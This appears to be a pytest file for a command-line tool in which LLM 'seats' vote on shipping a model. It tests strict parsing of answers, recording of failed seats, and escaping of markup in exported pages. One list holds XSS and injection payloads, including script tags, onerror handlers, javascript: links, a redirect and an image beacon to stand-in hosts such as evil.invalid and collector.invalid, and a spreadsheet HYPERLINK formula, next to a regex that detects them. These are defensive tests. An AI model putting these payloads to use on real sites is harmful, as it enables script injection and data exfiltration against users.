"""Answers from a hostile llm: strictly read, never half believed, shown as plain text."""

import json
import re
from collections.abc import Mapping
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from panel.testing import FakeOpenAI, FakeRequest, Reply, grounded_answer
from tests.cli.conftest import Command

SEATS = "skeptic,creator,developer"


def _said(request: FakeRequest, change: str) -> str:
    """A good answer as text, spoilt in one way."""
    good = json.dumps(grounded_answer(request))
    match change:
        case "two objects":
            return good + good.replace('"ship"', '"skip"')
        case "two in two fences":
            return f"```json\n{good}\n```\n```json\n{good}\n```"
        case "duplicate key":
            return good[:-1] + ', "call": "ship"}'
        case "NaN":
            return good[:-1] + ', "score": NaN}'
        case "extra keys":
            return good[:-1] + ', "status": "published", "approved_by": "admin"}'
        case "prose around it":
            return f"Here is my verdict: {good} Hope it helps!"
        case "cut short":
            return good[: len(good) // 2]
        case "deep nesting":
            return "[" * 100_000
        case "free text":
            return "Ship it! Great model, would buy again."
        case _:
            raise ValueError(change)


@pytest.mark.parametrize(
    "change",
    ["two objects", "two in two fences", "duplicate key", "NaN", "extra keys", "prose around it",
     "cut short", "deep nesting", "free text"],
)  # fmt: skip
def test_an_answer_that_is_not_one_strict_object_never_votes(
    change: str, desk: Path, shipskip: Command
) -> None:
    with FakeOpenAI(lambda request: Reply.text(_said(request, change))) as server:
        llm = ("--llm", "fake-llm", "--base-url", server.base_url, "--seats", SEATS)
        result = shipskip("review", "tern-2", *llm, "--json")
        assert server.count == 3 * 3
    assert result.code == 3
    card = result.json
    assert (card["outcome"], card["ships"], card["answered"]) == ("no_quorum", 0, 0)
    assert card["interval"] is None
    assert {review["failure"]["kind"] for review in card["reviews"]} == {"invalid-answer"}
    assert {review["call"] for review in card["reviews"]} == {None}


SCRIPTS = (
    "<script>fetch('/approve/1',{method:'POST'})</script>",
    "<img src=x onerror=alert(1)>",
    "[terms](javascript:alert(1)) and <javascript:alert(2)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<base href=https://evil.invalid/><meta http-equiv=refresh content='0;url=https://evil.invalid'>",
    "</blockquote></article></script><script>alert(1)</script>",
    'x" onmouseover="alert(1)" y=\'',
    "![chart](https://collector.invalid/p.png?d=secret)",
    '=HYPERLINK("http://evil.invalid","Muse")',
    "[/bold] [link=https://evil.invalid]here[/link]",
)


@pytest.mark.parametrize("script", SCRIPTS)
def test_markup_in_an_answer_is_text_on_every_page(
    script: str, desk: Path, shipskip: Command
) -> None:
    def answer(request: FakeRequest) -> Mapping[str, Any]:
        good = grounded_answer(request)
        reason = {"text": script[:300], "facts": good["reasons_for"][0]["facts"]}
        return {**good, "headline": script[:110], "quote": f"{script} {good['quote']}"[:1500],
                "reasons_for": [reason], "flip_conditions": [
                    {"condition": script[:300], "topic": "tooling"}]}  # fmt: skip

    with FakeOpenAI(answer) as server:
        llm = ("--llm", "fake-llm", "--base-url", server.base_url, "--seats", SEATS)
        result = shipskip("review", "tern-2", *llm, "--out", "export")
    assert result.code == 0, result.err
    assert script.split(" ", maxsplit=1)[0] in result.out
    (page,) = (desk / "export").rglob("*.html")
    text = page.read_text(encoding="utf-8")
    assert set("".join(script.split())) <= set(_Page(text).words)
    assert [tag for tag in _Page(text).tags if re.search(_BROUGHT, tag)] == []
    for note in (desk / "export").rglob("*.md"):
        written = note.read_text(encoding="utf-8")
        assert not re.search(r"(?<!\\)<(?:script|img|svg|base|meta)", written)
        assert not re.search(r"(?<!\\)\]\((?:javascript|https://(?:collector|evil))", written)


_BROUGHT = r"^(?:script|img|iframe|base|animate)\b|alert\(|evil|collector|fetch\(|\bon[a-z]+="
"""Tags and attributes that only a hostile answer brings."""


class _Page(HTMLParser):
    """A page as a browser takes it apart.

    Attributes:
        tags: Every tag with its attributes.
        words: The text between the tags.
    """

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.words = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(" ".join([tag, *(f"{name}={value}" for name, value in attrs)]))

    def handle_data(self, data: str) -> None:
        self.words += data


def _odd(kind: str) -> Reply:
    match kind:
        case "refused":
            return Reply.text("I am sorry, I cannot help with that request.")
        case "empty-answer":
            return Reply.empty_choices()
        case "truncated":
            return Reply.truncated()
        case "filtered":
            return Reply.content_filter()
        case "not-an-api":
            return Reply.broken_json()
        case "dropped":
            return Reply.drop()
        case "server-error":
            return Reply.status(500)
        case "rate-limited":
            return Reply.status(429, retry_after="0")
        case "timeout":
            return Reply.slow(30)
        case _:
            raise ValueError(kind)


@pytest.mark.parametrize(
    ("kind", "calls"),
    [("refused", 1), ("empty-answer", 1), ("truncated", 1), ("filtered", 1), ("not-an-api", 1),
     ("dropped", 2), ("server-error", 2), ("rate-limited", 2), ("timeout", 1)],
)  # fmt: skip
def test_a_seat_that_fails_stays_at_the_table_without_a_vote(
    kind: str, calls: int, desk: Path, shipskip: Command
) -> None:
    script = {"Skeptic": [_odd(kind)] * 9, "*": Reply()}
    with FakeOpenAI(script) as server:
        llm = ("--llm", "fake-llm", "--base-url", server.base_url, "--seats", SEATS)
        more = ("--max-retries", "1", "--timeout", "2", "--json")
        result = shipskip("review", "tern-2", *llm, *more)
        tries = sum("Skeptic" in request.persona_text for request in server.calls)
    assert result.code == 3
    card = result.json
    assert (card["seats"], card["answered"]) == (3, 2)
    (failed,) = [review for review in card["reviews"] if review["failure"]]
    assert (failed["persona"], failed["failure"]["kind"]) == ("skeptic", kind)
    assert failed["failure"]["remedy"]
    assert tries == calls
    assert shipskip("runs", "replay").code == 0


def test_another_llm_than_the_one_asked_for_is_recorded_and_shown(
    desk: Path, shipskip: Command
) -> None:
    with FakeOpenAI(Reply.other_llm("fake-llm-2026-11")) as server:
        llm = ("--llm", "fake-llm-2026-08", "--base-url", server.base_url, "--seats", SEATS)
        result = shipskip("review", "tern-2", *llm, "--json", "--out", "export")
    assert {review["answered_by"] for review in result.json["reviews"]} == {"fake-llm-2026-11"}
    (page,) = (desk / "export").rglob("*.html")
    assert "fake-llm-2026-11" in page.read_text(encoding="utf-8")


def test_usage_that_is_missing_makes_the_cost_unknown_and_never_zero(
    desk: Path, shipskip: Command
) -> None:
    with FakeOpenAI(replace(Reply(), with_usage=False)) as server:
        llm = ("--llm", "fake-llm", "--base-url", server.base_url, "--seats", SEATS)
        prices = ("--input-price", "1", "--output-price", "2")
        result = shipskip("review", "tern-2", *llm, *prices, "--json")
    assert result.json["cost"] in {None, "unknown"}
